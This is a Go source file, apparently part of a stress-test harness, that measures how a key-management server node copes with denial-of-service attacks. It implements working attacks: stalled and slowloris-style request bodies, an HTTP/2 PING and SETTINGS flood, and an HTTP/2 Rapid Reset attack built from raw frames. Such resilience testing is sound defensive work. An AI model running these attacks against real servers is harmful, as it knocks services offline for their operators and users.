//go:build linux

package main

import (
	"context"
	"crypto/tls"
	"encoding/binary"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"os/exec"
	"slices"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"time"
)

// blockingBody is a request body that never yields a byte until ctx ends.
type blockingBody struct{ ctx context.Context }

func (b blockingBody) Read([]byte) (int, error) {
	<-b.ctx.Done()
	return 0, b.ctx.Err()
}

type stalledResult struct {
	sample
	arrived int
}

// stalledBodies sends o.stalled HTTP/2 requests that announce a
// 1,000,000-byte body and send none, waits until the node counts them as
// active, and samples the node's memory.
func (o *options) stalledBodies(admin *http.Client) (stalledResult, error) {
	ctx, cancel := context.WithCancel(context.Background())
	c := o.client(o.attackCert, true)
	c.Timeout = 0
	c.Transport.(*http.Transport).MaxConnsPerHost = o.stalledConns
	var wg sync.WaitGroup
	for range o.stalled {
		wg.Add(1)
		go func() {
			defer wg.Done()
			req, _ := http.NewRequestWithContext(ctx, http.MethodPut, o.endpoint+"/v1/key/generate/k", blockingBody{ctx})
			req.ContentLength = 1_000_000
			if resp, err := c.Do(req); err == nil {
				_, _ = io.Copy(io.Discard, resp.Body)
				resp.Body.Close()
			}
		}()
	}
	defer func() {
		cancel()
		wg.Wait()
		c.CloseIdleConnections()
	}()
	var res stalledResult
	deadline := time.Now().Add(o.stalledWait)
	for time.Now().Before(deadline) {
		n, err := o.activeRequests(admin)
		if err == nil {
			res.arrived = n - 1 // the metrics request itself is active
		}
		if res.arrived >= o.stalled {
			break
		}
		time.Sleep(200 * time.Millisecond) // polling the node's gauge
	}
	// Let the handlers allocate what they are going to allocate.
	time.Sleep(time.Second)
	res.sample = o.sample(admin)
	if o.stalledHold > 0 {
		fmt.Printf("stalled:   holding the requests for %s\n", o.stalledHold)
		time.Sleep(o.stalledHold) // the operator profiles the node meanwhile
	}
	return res, nil
}

type cutTimes struct {
	cut   int
	times []time.Duration
}

func (c *cutTimes) median() time.Duration {
	if len(c.times) == 0 {
		return 0
	}
	s := slices.Clone(c.times)
	slices.Sort(s)
	return s[len(s)/2].Round(100 * time.Millisecond)
}

func (c *cutTimes) maxCut() time.Duration {
	if len(c.times) == 0 {
		return 0
	}
	return slices.Max(c.times).Round(100 * time.Millisecond)
}

type slowResult struct {
	h1, h2 cutTimes
	peak   sample
}

// slowBody yields one byte per second until ctx ends.
type slowBody struct{ ctx context.Context }

func (b slowBody) Read(p []byte) (int, error) {
	select {
	case <-b.ctx.Done():
		return 0, b.ctx.Err()
	case <-time.After(time.Second):
	}
	p[0] = '{'
	return 1, nil
}

// slowBodies keeps o.slowH1 HTTP/1.1 connections and o.slowH2 HTTP/2
// streams sending one body byte per second for o.slowWatch and records
// when the server ends each of them.
func (o *options) slowBodies(admin *http.Client) (slowResult, error) {
	ctx, cancel := context.WithTimeout(context.Background(), o.slowWatch)
	defer cancel()
	start := time.Now()
	var (
		mu  sync.Mutex
		res slowResult
		wg  sync.WaitGroup
	)
	record := func(c *cutTimes) {
		mu.Lock()
		c.cut++
		c.times = append(c.times, time.Since(start))
		mu.Unlock()
	}
	cfg := &tls.Config{InsecureSkipVerify: true, Certificates: []tls.Certificate{o.attackCert}, NextProtos: []string{"http/1.1"}} //nolint:gosec // test node
	for range o.slowH1 {
		wg.Add(1)
		go func() {
			defer wg.Done()
			d := tls.Dialer{Config: cfg}
			conn, err := d.DialContext(ctx, "tcp", o.addr)
			if err != nil {
				return
			}
			defer conn.Close()
			if _, err := io.WriteString(conn, "PUT /v1/key/generate/k HTTP/1.1\r\nHost: localhost\r\nContent-Length: 1000000\r\n\r\n"); err != nil {
				return
			}
			ended := make(chan struct{})
			go func() {
				var b [1]byte
				if _, err := conn.Read(b[:]); err == nil || ctx.Err() == nil {
					record(&res.h1)
				}
				close(ended)
			}()
			for {
				select {
				case <-ctx.Done():
					conn.Close()
					<-ended
					return
				case <-ended:
					return
				case <-time.After(time.Second):
					if _, err := conn.Write([]byte{'{'}); err != nil {
						<-ended
						return
					}
				}
			}
		}()
	}
	h2 := o.client(o.attackCert, true)
	h2.Timeout = 0
	for range o.slowH2 {
		wg.Add(1)
		go func() {
			defer wg.Done()
			req, _ := http.NewRequestWithContext(ctx, http.MethodPut, o.endpoint+"/v1/key/generate/k", slowBody{ctx})
			req.ContentLength = 1_000_000
			resp, err := h2.Do(req)
			if err == nil {
				resp.Body.Close()
			}
			if ctx.Err() == nil {
				record(&res.h2)
			}
		}()
	}
	res.peak = o.watch(ctx, admin)
	wg.Wait()
	h2.CloseIdleConnections()
	return res, nil
}

// watch samples the node's memory every half second until ctx ends and
// returns the maxima.
func (o *options) watch(ctx context.Context, admin *http.Client) sample {
	peak := sample{heap: -1, rss: -1}
	for {
		peak = peak.max(sample{rss: rss(o.pid), heap: -1})
		select {
		case <-ctx.Done():
			return peak.max(o.sample(admin))
		case <-time.After(500 * time.Millisecond):
		}
	}
}

// HTTP/2 framing, just enough for the attacks (RFC 9113).
const (
	frameHeaders   = 0x1
	frameRSTStream = 0x3
	frameSettings  = 0x4
	framePing      = 0x6

	flagEndStream  = 0x1
	flagAck        = 0x1
	flagEndHeaders = 0x4
)

const clientPreface = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

func appendFrame(b []byte, typ, flags byte, stream uint32, payload []byte) []byte {
	n := len(payload)
	b = append(b, byte(n>>16), byte(n>>8), byte(n), typ, flags)
	b = binary.BigEndian.AppendUint32(b, stream&0x7fffffff)
	return append(b, payload...)
}

// hpackGET encodes the request headers of GET path without Huffman coding
// or indexing: :method GET, :scheme https (static table), :path and
// :authority as literals with indexed names.
func hpackGET(path, authority string) []byte {
	b := []byte{0x82, 0x87}
	b = append(b, 0x04, byte(len(path)))
	b = append(b, path...)
	b = append(b, 0x01, byte(len(authority)))
	return append(b, authority...)
}

func (o *options) dialH2(ctx context.Context) (net.Conn, error) {
	cfg := &tls.Config{InsecureSkipVerify: true, Certificates: []tls.Certificate{o.attackCert}, NextProtos: []string{"h2"}} //nolint:gosec // test node
	d := tls.Dialer{Config: cfg, NetDialer: &net.Dialer{Timeout: 5 * time.Second}}
	conn, err := d.DialContext(ctx, "tcp", o.addr)
	if err != nil {
		return nil, err
	}
	if p := conn.(*tls.Conn).ConnectionState().NegotiatedProtocol; p != "h2" {
		conn.Close()
		return nil, fmt.Errorf("negotiated %q, not h2", p)
	}
	// The server sends its SETTINGS first; acknowledging them up front
	// keeps the server from treating excess streams as a protocol error.
	pre := appendFrame([]byte(clientPreface), frameSettings, 0, 0, nil)
	pre = appendFrame(pre, frameSettings, flagAck, 0, nil)
	if _, err := conn.Write(pre); err != nil {
		conn.Close()
		return nil, err
	}
	return conn, nil
}

type floodResult struct {
	frames, reconnects int64
	peak               sample
}

// flood opens o.floodConns HTTP/2 connections that send PING and SETTINGS
// frames as fast as they can for o.floodTime and never read.
func (o *options) flood(admin *http.Client) floodResult {
	ctx, cancel := context.WithTimeout(context.Background(), o.floodTime)
	defer cancel()
	var (
		frames, reconnects atomic.Int64
		wg                 sync.WaitGroup
	)
	var batch []byte
	for i := range 1024 {
		batch = appendFrame(batch, framePing, 0, 0, binary.BigEndian.AppendUint64(nil, uint64(i)))
		batch = appendFrame(batch, frameSettings, 0, 0, nil)
	}
	for range o.floodConns {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for ctx.Err() == nil {
				conn, err := o.dialH2(ctx)
				if err != nil {
					reconnects.Add(1)
					continue
				}
				deadline, _ := ctx.Deadline()
				_ = conn.SetWriteDeadline(deadline)
				for ctx.Err() == nil {
					if _, err := conn.Write(batch); err != nil {
						break
					}
					frames.Add(2048)
				}
				conn.Close()
				reconnects.Add(1)
			}
		}()
	}
	peak := o.watch(ctx, admin)
	wg.Wait()
	return floodResult{frames: frames.Load(), reconnects: reconnects.Load() - int64(o.floodConns), peak: peak}
}

type resetResult struct {
	idleP99, attackP99  time.Duration
	idleN, attackN      int
	idleErr, attackErr  int
	streams, reconnects int64
	peak                sample
}

// normalLoad runs o.normalWorkers admin clients doing generate requests
// until ctx ends and returns their latencies and error count.
func (o *options) normalLoad(ctx context.Context) ([]time.Duration, int) {
	c := o.client(o.adminCert, true)
	defer c.CloseIdleConnections()
	var (
		mu   sync.Mutex
		lats []time.Duration
		errs int
		wg   sync.WaitGroup
	)
	for range o.normalWorkers {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for ctx.Err() == nil {
				t := time.Now()
				err := o.call(c, http.MethodPut, "/v1/key/generate/k", "{}")
				d := time.Since(t)
				if ctx.Err() != nil {
					return
				}
				mu.Lock()
				if err != nil {
					errs++
				} else {
					lats = append(lats, d)
				}
				mu.Unlock()
			}
		}()
	}
	wg.Wait()
	return lats, errs
}

func p99(l []time.Duration) time.Duration {
	if len(l) == 0 {
		return 0
	}
	s := slices.Clone(l)
	slices.Sort(s)
	return s[len(s)*99/100].Round(100 * time.Microsecond)
}

// rapidReset measures the normal clients' p99 alone, then while
// o.resetConns connections open and immediately reset streams. The
// attackers run in a child process (this program with -child reset), as a
// real attacker would: in this process Go's scheduler would give the
// spinning attack goroutines 10 ms time slices ahead of the normal
// clients and so measure the client, not the server.
func (o *options) rapidReset(admin *http.Client) (resetResult, error) {
	var res resetResult
	idleCtx, cancel := context.WithTimeout(context.Background(), o.normalTime)
	lats, errs := o.normalLoad(idleCtx)
	cancel()
	res.idleP99, res.idleN, res.idleErr = p99(lats), len(lats), errs

	exe, err := os.Executable()
	if err != nil {
		return res, err
	}
	child := exec.Command(exe, "-child", "reset", "-child-addr", o.addr, "-child-key", o.attackKey,
		"-reset-conns", strconv.Itoa(o.resetConns), "-reset-time", o.resetTime.String())
	var out strings.Builder
	child.Stdout, child.Stderr = &out, os.Stderr
	child.SysProcAttr = &syscall.SysProcAttr{Pdeathsig: syscall.SIGKILL}
	if err := child.Start(); err != nil {
		return res, err
	}
	ctx, cancel := context.WithTimeout(context.Background(), o.resetTime)
	defer cancel()
	var peak sample
	peakDone := make(chan struct{})
	go func() { peak = o.watch(ctx, admin); close(peakDone) }()
	lats, errs = o.normalLoad(ctx)
	<-peakDone
	if err := child.Wait(); err != nil {
		return res, fmt.Errorf("attacker process: %w: %s", err, out.String())
	}
	if _, err := fmt.Sscan(out.String(), &res.streams, &res.reconnects); err != nil {
		return res, fmt.Errorf("attacker process output %q: %w", out.String(), err)
	}
	res.attackP99, res.attackN, res.attackErr = p99(lats), len(lats), errs
	res.peak = peak
	return res, nil
}

// resetAttack is the attacker process of rapidReset: o.resetConns HTTP/2
// connections sending HEADERS and RST_STREAM pairs as fast as they can for
// o.resetTime, reconnecting when the server closes them. It prints the
// number of streams reset and of reconnects.
func (o *options) resetAttack() {
	ctx, cancel := context.WithTimeout(context.Background(), o.resetTime)
	defer cancel()
	var (
		streams, reconnects atomic.Int64
		wg                  sync.WaitGroup
	)
	hdr := hpackGET("/v1/key/describe/k", "localhost")
	rst := binary.BigEndian.AppendUint32(nil, 0x8) // CANCEL
	for range o.resetConns {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for ctx.Err() == nil {
				conn, err := o.dialH2(ctx)
				if err != nil {
					reconnects.Add(1)
					continue
				}
				go func() { _, _ = io.Copy(io.Discard, conn) }()
				deadline, _ := ctx.Deadline()
				_ = conn.SetWriteDeadline(deadline)
				var buf []byte
				for id := uint32(1); id < 1<<30 && ctx.Err() == nil; {
					buf = buf[:0]
					for range 64 {
						buf = appendFrame(buf, frameHeaders, flagEndHeaders|flagEndStream, id, hdr)
						buf = appendFrame(buf, frameRSTStream, 0, id, rst)
						id += 2
					}
					if _, err := conn.Write(buf); err != nil {
						break
					}
					streams.Add(64)
				}
				conn.Close()
				reconnects.Add(1)
			}
		}()
	}
	wg.Wait()
	fmt.Println(streams.Load(), reconnects.Load()-int64(o.resetConns))
}
